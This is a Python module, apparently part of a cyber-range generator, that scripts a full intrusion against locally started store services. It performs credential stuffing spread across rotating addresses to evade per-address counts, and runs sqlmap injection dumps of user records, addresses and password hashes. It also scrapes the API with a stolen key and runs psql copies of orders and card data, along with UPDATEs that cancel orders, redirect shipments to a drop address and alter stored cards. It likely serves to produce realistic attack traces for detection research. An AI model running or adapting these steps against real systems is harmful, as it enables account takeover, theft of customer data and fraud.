"""The intrusion, with real tools, against services that this range started. Each step returns what its tool received."""

from __future__ import annotations

import csv
import os
import random
import re
import signal
import sqlite3
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from . import fill, net
from .browser import Browser
from .page import shown
from .people import People
from .services import VENDOR_HOST, Services
from .traffic import VENDOR_AGENT, Traffic

# Old enough to look odd, common enough not to stand out.
STUFFING_AGENTS = (
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.88 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:68.0) Gecko/20100101 Firefox/68.0",
)
OPERATOR_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


@dataclass
class Choices:
    """What differs from one recording to the next."""

    technique: str  # union or error
    seed: int
    tries: int
    accounts: int
    exits: list[str]  # addresses that the password tries come from
    operator: str  # the intruder's own address
    scrapers: list[str]
    scraper_agent: str
    sqlmap_agent: list[str]
    pages: list[str]  # read in each opened account
    user_columns: str
    user_where: str
    address_columns: str
    address_where: str
    hash_columns: str
    hash_rows: tuple[int, int]
    customer_ids: range
    order_numbers: range
    customer_pages: range
    order_pages: range
    page_size: int
    copy: str
    ranked: str  # with {limit}
    ranked_by: str
    ranked_near: int
    alter_orders: str
    altered_table: str
    alter_cards: str


def choose(seed: int, customers: int, technique: str) -> Choices:
    rng = random.Random(f"intrusion {seed}")
    exits = [f"203.0.113.{n}" for n in rng.sample(range(200, 255), 20)]
    exits += [f"192.0.2.{n}" for n in rng.sample(range(130, 250), 16)]
    exits += [f"2001:db8:{rng.randrange(0x9000, 0xffff):x}:{rng.randrange(0xffff):x}::{rng.randrange(1, 0xffff):x}" for _ in range(12)]
    rng.shuffle(exits)
    accounts = customers * 4 // 5
    first_id = rng.randrange(accounts // 10, accounts // 3)
    common = {
        "technique": technique,
        "seed": seed,
        "exits": exits,
        "operator": f"192.0.2.{rng.randrange(250, 255)}",
        "scrapers": [f"203.0.113.{rng.choice([n for n in range(200, 255) if f'203.0.113.{n}' not in exits])}", exits[0]],
        "hash_rows": (hash_row := rng.randrange(accounts // 2, accounts - 50), hash_row + 3),
    }
    if technique == "union":
        return Choices(
            **common,
            tries=640,
            accounts=5,
            scraper_agent="python-requests/2.32.3",
            sqlmap_agent=[],
            pages=["/accounts/profile/", "/accounts/orders/", "ORDER", "ORDER", "/accounts/addresses/"],
            user_columns="id,email,first_name,last_name",
            user_where=f"id BETWEEN {first_id} AND {first_id + accounts // 7}",
            address_columns="id,user_id,first_name,last_name,line1,line2,line4,state,postcode,country_id,phone_number",
            address_where="state='NY' OR country_id='DE'",
            hash_columns="id,password",
            customer_ids=range(accounts - 40, accounts + 60),
            order_numbers=range(105200, 105310),
            customer_pages=range(6, 11),
            order_pages=range(2, 6),
            page_size=100,
            copy=(
                "SELECT o.number AS order_number, o.date_placed, o.total_incl_tax, o.status, o.guest_email, b.first_name, b.last_name, "
                "b.line1, b.line4, b.postcode, b.country_id FROM order_order o "
                "JOIN order_billingaddress b ON b.id = o.billing_address_id "
                "WHERE b.country_id = 'GB' AND o.total_incl_tax >= 60"
            ),
            ranked=(
                "SELECT o.number AS order_number, o.total_incl_tax, c.name AS card_name, c.number AS card_number, c.expiry_date, "
                "c.partner_reference FROM order_order o JOIN payment_bankcard c ON c.user_id = o.user_id "
                "WHERE o.status = 'Complete' AND o.total_incl_tax <= 150 ORDER BY o.total_incl_tax DESC LIMIT {limit}"
            ),
            ranked_by="total_incl_tax",
            ranked_near=70,
            alter_orders="UPDATE order_order SET status = 'Cancelled' WHERE status = 'Pending' AND total_incl_tax >= 40",
            altered_table="order_order",
            alter_cards=(
                "UPDATE payment_bankcard SET partner_reference = 'tok_' || left(md5(partner_reference), 24) "
                "WHERE expiry_date >= DATE '2030-01-01' AND card_type = 'Mastercard' AND id % 3 = 0"
            ),
        )
    return Choices(
        **common,
        tries=420,
        accounts=4,
        scraper_agent=VENDOR_AGENT,
        sqlmap_agent=["--random-agent"],
        pages=["/accounts/orders/", "ORDER", "/accounts/addresses/", "/accounts/profile/edit/"],
        user_columns="email,first_name,last_name",
        user_where=f"id>={first_id} AND id<{first_id + accounts // 12}",
        address_columns="line1,line4,phone_number,postcode,user_id",
        address_where="country_id='FR'",
        hash_columns="email,password",
        customer_ids=range(accounts // 2, accounts // 2 + 45),
        order_numbers=range(104600, 104660),
        customer_pages=range(1, 4),
        order_pages=range(3, 7),
        page_size=40,
        copy=(
            "SELECT v.email, v.last_name, v.spent, o.number AS order_number, o.date_placed, s.line1, s.line4, s.state, s.postcode, s.phone_number "
            "FROM vendor_customer_activity v JOIN order_order o ON o.user_id = v.customer_id "
            "JOIN order_shippingaddress s ON s.id = o.shipping_address_id WHERE v.spent > 200 AND s.country_id IN ('US', 'CA')"
        ),
        ranked=(
            "SELECT o.number AS order_number, o.date_placed::date AS day, o.total_incl_tax, s.first_name, s.last_name, s.postcode, p.label "
            "FROM order_order o JOIN order_shippingaddress s ON s.id = o.shipping_address_id JOIN payment_source p ON p.order_id = o.id "
            "WHERE s.country_id <> 'US' ORDER BY o.total_incl_tax LIMIT {limit}"
        ),
        ranked_by="total_incl_tax",
        ranked_near=40,
        alter_orders=(
            "UPDATE order_shippingaddress SET line1 = '12 Dropbox Yard', line2 = '', line4 = 'Newark', state = 'NJ', postcode = '07102' "
            "WHERE id IN (SELECT shipping_address_id FROM order_order WHERE status IN ('Pending', 'Being processed') AND total_incl_tax > 60)"
        ),
        altered_table="order_shippingaddress",
        alter_cards=(
            f"UPDATE payment_bankcard SET number = 'XXXX-XXXX-XXXX-0000', partner_reference = 'tok_' || md5(number || id::text) "
            f"WHERE user_id BETWEEN {accounts // 4} AND {accounts // 4 + 60}"
        ),
    )


@dataclass
class Row:
    """One row of one table that a tool received, by column name, and how it was asked for."""

    step: str
    values: dict[str, str]
    certainty: str = "exact"


@dataclass
class Change:
    """One row that an UPDATE changed: table, key, and the columns that differ."""

    step: str
    table: str
    key: int
    columns: list[str]


@dataclass
class Received:
    """Everything that reached the intruder, and everything that they changed."""

    pages: list[tuple[int, set[str]]] = field(default_factory=list)  # step 1: (user id, classes that the page showed)
    rows: list[Row] = field(default_factory=list)
    records: list[tuple[str, str, dict]] = field(default_factory=list)  # step 3: (step, kind, JSON object)
    changes: list[Change] = field(default_factory=list)
    moments: list[tuple[str, float, float]] = field(default_factory=list)


class Intruder:
    def __init__(self, services: Services, traffic: Traffic, choices: Choices, workshop: Path) -> None:
        self.services = services
        self.traffic = traffic
        self.choices = choices
        self.workshop = workshop
        self.rng = random.Random(f"intruder {choices.seed}")
        self.received = Received()
        workshop.mkdir()

    @contextmanager
    def _moment(self, name: str):
        began = time.time()
        yield
        self.received.moments.append((name, began, time.time()))
        print(f"  {name}: {time.time() - began:.0f} s", flush=True)

    # Step 1: other people's leaked passwords, tried here.

    def stuff(self, seconds: float) -> None:
        choices, rng = self.choices, self.rng
        with self.services.observe() as connection:
            victims = connection.execute(
                "SELECT u.id, u.email FROM auth_user u WHERE NOT u.is_staff "
                "AND EXISTS (SELECT FROM order_order o WHERE o.user_id = u.id AND o.shipping_address_id IS NOT NULL) "
                "AND EXISTS (SELECT FROM address_useraddress a WHERE a.user_id = u.id) ORDER BY md5(u.email || %s) LIMIT %s",
                [str(choices.seed), choices.accounts],
            ).fetchall()
        strangers = People(choices.seed + 500_000)
        others = [email for id, email in self.traffic.customers if (id, email) not in victims]
        pairs = [(None, email, "summer" + str(rng.randrange(1990, 2025))) for email in rng.sample(others, choices.tries * 2 // 5)]
        pairs += [(None, strangers.person().email, "qwerty" + str(rng.randrange(100))) for _ in range(choices.tries - len(pairs))]
        rng.shuffle(pairs)
        for position, (user_id, email) in enumerate(victims):
            pairs.insert(len(pairs) * (position + 1) // (len(victims) + 1), (user_id, email, fill.password_of(email)))
        hands = 6
        with self._moment("1 credential stuffing"), ThreadPoolExecutor(hands) as pool:
            work = [(pairs[n::hands], choices.exits[n::hands], seconds * hands / len(pairs), n) for n in range(hands)]
            for future in [pool.submit(self._try_passwords, *share) for share in work]:
                future.result()
        with self._moment("1 accounts read again"):
            for user_id, email in victims[:2]:
                browser = Browser(self.services, choices.operator, OPERATOR_AGENT)
                browser.page("/accounts/login/")
                if browser.log_in(email, fill.password_of(email)):
                    self._read_account(browser, user_id, ["/accounts/profile/", "/accounts/addresses/"])

    def _try_passwords(self, pairs, exits: list[str], per_try: float, number: int) -> None:
        """Goes round its exits, one try from each, so that no address stands out by its count."""
        rng = random.Random(f"tries {self.choices.seed} {number}")
        browsers = [Browser(self.services, exit, STUFFING_AGENTS[n % 2]) for n, exit in enumerate(exits)]
        for position, (user_id, email, password) in enumerate(pairs):
            began = time.monotonic()
            browser = browsers[position % len(browsers)]
            if not browser.session.cookies:
                browser.get("/accounts/login/")
            if browser.log_in(email, password):
                self._read_account(browser, user_id, self.choices.pages)
                browser.session.cookies.clear()
            time.sleep(max(0.0, rng.uniform(0.6, 1.4) * per_try - (time.monotonic() - began)))

    def _read_account(self, browser: Browser, user_id: int, pages: list[str]) -> None:
        numbers: list[str] = []
        for path in pages:
            if path == "ORDER":
                if not numbers:
                    continue
                path = f"/accounts/orders/{numbers.pop(0)}/"
            answer = browser.get(path)
            if answer.status_code == 200:
                # Now, since the store's data moves on.
                with self.services.observe() as connection:
                    self.received.pages.append((user_id, shown(connection, user_id, answer.text)))
            numbers = numbers or list(dict.fromkeys(re.findall(r'href="/accounts/orders/(\d+)/"', answer.text)))

    # Step 2: SQL injection in Vendor X's service.

    def inject(self) -> None:
        choices = self.choices
        operator = Browser(self.services, choices.operator, OPERATOR_AGENT)
        for path in ("/", "/v1/popular?days=7", "/v1/similar?product=12", "/v1/similar?product=12%27", "/_debug"):
            operator.vendor(path)
            time.sleep(1)
        technique = {"union": "U", "error": "E"}[choices.technique]
        with self._moment(f"2a {choices.technique} dump of auth_user"):
            dumped = self._sqlmap("users", technique, "auth_user", choices.user_columns, "--where", choices.user_where)
            self._take("2a", dumped, {"id": "user_id"})
        with self._moment(f"2a {choices.technique} dump of address_useraddress"):
            dumped = self._sqlmap("addresses", technique, "address_useraddress", choices.address_columns, "--where", choices.address_where)
            self._take("2a", dumped, {"id": ""})
        first, last = choices.hash_rows
        with self._moment("2b boolean-blind password hashes"):
            dumped = self._sqlmap(
                "hashes", "B", "auth_user", choices.hash_columns, "--start", str(first), "--stop", str(last), "--threads", "4"
            )
            self._take("2b", dumped, {"id": "user_id"})
        with self._moment("2b one more hash, broken off"):
            self._sqlmap(
                "hash-broken-off", "B", "auth_user", choices.hash_columns, "--start", str(last + 1), "--stop", str(last + 1),
                stop_after=330 if choices.hash_columns.startswith("id") else 450,
            )
            self._take_partial("2b", self.workshop / "hash-broken-off")
            if not any(row.certainty == "partial" for row in self.received.rows):
                print("  2b: sqlmap finished the hash that was to stay unfinished", flush=True)

    def _sqlmap(self, name: str, technique: str, table: str, columns: str, *options: str, stop_after: int = 0) -> list[dict]:
        """Runs sqlmap and returns the rows of its own dump file. With stop_after, interrupts it after so many requests."""
        output, traffic = self.workshop / name, self.workshop / f"{name}.traffic"
        command = [
            str(Path(sys.executable).parent / "sqlmap"), "-u", net.ours_url(f"{self.services.vendor_url}/v1/similar") + "?product=12",
            "--host", VENDOR_HOST, "--headers", f"X-Forwarded-For: {self.choices.operator}", "-p", "product", "--dbms", "postgresql",
            "--technique", technique, "-D", "public", "-T", table, "-C", columns, "--dump", "--batch", "--disable-hashing",
            "--flush-session", "--output-dir", str(output), "-t", str(traffic), *self.choices.sqlmap_agent, *options,
        ]
        with open(self.workshop / f"{name}.out", "wb") as out:
            process = subprocess.Popen(
                command, stdin=subprocess.DEVNULL, stdout=out, stderr=out, env=os.environ | {"HOME": str(self.workshop)}
            )
            deadline = time.monotonic() + 300
            interrupted = 0.0
            while process.poll() is None:
                if time.monotonic() > deadline:
                    process.kill()
                    raise TimeoutError(f"sqlmap {name} did not end")
                # A signal that comes between two requests can be taken for a lost connection: then once more.
                if stop_after and time.monotonic() - interrupted > 2 and traffic.exists():
                    if traffic.read_bytes().count(b"HTTP request [") >= stop_after:
                        process.send_signal(signal.SIGINT)
                        interrupted = time.monotonic()
                time.sleep(0.05)
        dumps = list(output.glob(f"*/dump/public/{table}.csv"))
        if not dumps:
            return []
        with open(dumps[0], newline="", encoding="utf-8") as dump:
            return list(csv.DictReader(dump))

    def _take(self, step: str, dumped: list[dict], rename: dict[str, str]) -> None:
        if not dumped:
            raise RuntimeError(f"{step}: sqlmap received nothing")
        for line in dumped:
            values = {
                rename.get(column, column): value for column, value in line.items() if value not in ("", " ", "<blank>", "NULL")
            }
            values.pop("", None)
            self.received.rows.append(Row(step, values))

    def _take_partial(self, step: str, output: Path) -> None:
        """What sqlmap knew when it was stopped is in its session file."""
        session = next(output.glob("*/session.sqlite"))
        marker = "__PARTIAL_VALUE__"
        with sqlite3.connect(session) as connection:
            values = [value for (value,) in connection.execute("SELECT value FROM storage") if isinstance(value, str)]
        whole_email = [value for value in values if re.fullmatch(r"[^@\s]+@[^@\s]+", value)]
        for value in values:
            if value.startswith(marker):
                self.received.rows.append(Row(step, {"password": value.removeprefix(marker)}, "partial"))
            elif value.startswith("pbkdf2_sha256$"):
                self.received.rows.append(Row(step, {"password": value}))
        for email in whole_email:
            self.received.rows.append(Row(step, {"email": email}))

    # Step 3: Vendor X's key, from elsewhere.

    def scrape(self, seconds: float) -> None:
        choices = self.choices
        clients = [Browser(self.services, address, choices.scraper_agent) for address in choices.scrapers]
        calls = [("3a", "customer", f"/api/v1/customers/{id}/") for id in choices.customer_ids]
        calls += [("3a", "order", f"/api/v1/orders/{number}/") for number in choices.order_numbers]
        calls += [("3b", "customer", f"/api/v1/customers/?page={p}&page_size={choices.page_size}") for p in choices.customer_pages]
        calls += [("3b", "order", f"/api/v1/orders/?page={p}&page_size={choices.page_size}") for p in choices.order_pages]
        with self._moment("3 store API with the stolen key"):
            for step, kind, path in calls:
                client = clients[0 if kind == "customer" else 1]
                answer = client.api(path, self.services.api_key)
                if answer.status_code == 200:
                    body = answer.json()
                    for record in body["results"] if step == "3b" else [body]:
                        self.received.records.append((step, kind, record))
                time.sleep(self.rng.uniform(0.5, 1.5) * seconds / len(calls) * (4 if step == "3b" else 0.8))

    # Step 4: Vendor X's database role, from elsewhere.

    def plunder(self) -> None:
        choices = self.choices
        with self._moment("4a COPY of orders with addresses"):
            target = self.workshop / "copy.csv"
            self._psql(f"\\copy ({choices.copy}) TO '{target}' WITH (FORMAT csv, HEADER)")
            self.received.rows += [Row("4a", line) for line in self._csv(target)]
        with self._moment("4d the largest, with ties at the edge"):
            self._ranked()
        with self._moment("4b orders altered"):
            columns = {"order_order": ["status"], "order_shippingaddress": ["line1", "line2", "line4", "state", "postcode"]}
            self._alter("4b", choices.alter_orders, choices.altered_table, columns[choices.altered_table])
        with self._moment("4c stored cards altered"):
            self._alter("4c", choices.alter_cards, "payment_bankcard", ["number", "partner_reference"])

    def _ranked(self) -> None:
        """A LIMIT that cuts through rows of one value: which of those come is the database's business."""
        choices, target = self.choices, self.workshop / "ranked.csv"
        with self.services.observe() as connection:
            everything = connection.execute(choices.ranked.replace("LIMIT {limit}", ""))
            position = [column.name for column in everything.description].index(choices.ranked_by)
            ranks = [row[position] for row in everything.fetchall()]
        limit = next(n for n in range(choices.ranked_near, len(ranks) - 4) if ranks[n - 4] == ranks[n + 3])
        target.write_text(self._psql(choices.ranked.format(limit=limit), "--csv"))
        rows = self._csv(target)
        edge = rows[-1][choices.ranked_by]
        for row in rows:
            self.received.rows.append(Row("4d", row, "tie" if row[choices.ranked_by] == edge else "exact"))

    def _alter(self, step: str, statement: str, table: str, columns: list[str]) -> None:
        read = f"SELECT id, {', '.join(columns)} FROM {table}"
        with self.traffic.order_changes, self.services.observe() as connection:
            before = {row[0]: row[1:] for row in connection.execute(read).fetchall()}
            answer = self._psql(statement)
            after = {row[0]: row[1:] for row in connection.execute(read).fetchall()}
        changed = 0
        for key, values in before.items():
            differing = [name for name, old, new in zip(columns, values, after[key]) if old != new]
            if differing:
                changed += 1
                self.received.changes.append(Change(step, table, key, differing))
        if answer.strip() != f"UPDATE {changed}" or not changed:
            raise RuntimeError(f"{step}: psql said {answer.strip()!r}, {changed} rows differ")

    def _psql(self, command: str, *options: str) -> str:
        net.ours("127.0.0.1", self.services.ports["db_intruder"])
        return subprocess.run(
            ["psql", "-X", *options, "-d", self.services.dsn("vendor_x", "db_intruder"), "-c", command],
            check=True, stdout=subprocess.PIPE, text=True, env=os.environ | {"PGTZ": "UTC"},
        ).stdout

    @staticmethod
    def _csv(path: Path) -> list[dict]:
        with open(path, newline="", encoding="utf-8") as file:
            return list(csv.DictReader(file))
